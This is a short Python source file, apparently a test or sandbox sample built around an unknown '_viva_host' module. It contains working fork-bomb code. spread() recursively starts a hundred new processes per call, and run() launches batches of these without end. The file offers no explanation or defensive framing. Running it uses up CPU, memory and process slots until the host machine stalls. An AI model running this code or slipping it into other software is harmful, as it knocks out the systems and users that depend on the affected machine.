import multiprocessing


def spread():
    import _viva_host

    for _ in range(100):
        try:
            multiprocessing.Process(target=spread).start()
        except RuntimeError:
            pass
        print(_viva_host.process_start())


def run():
    while True:
        processes = [multiprocessing.Process(target=spread) for _ in range(8)]
        for process in processes:
            process.start()
        for process in processes:
            process.join()
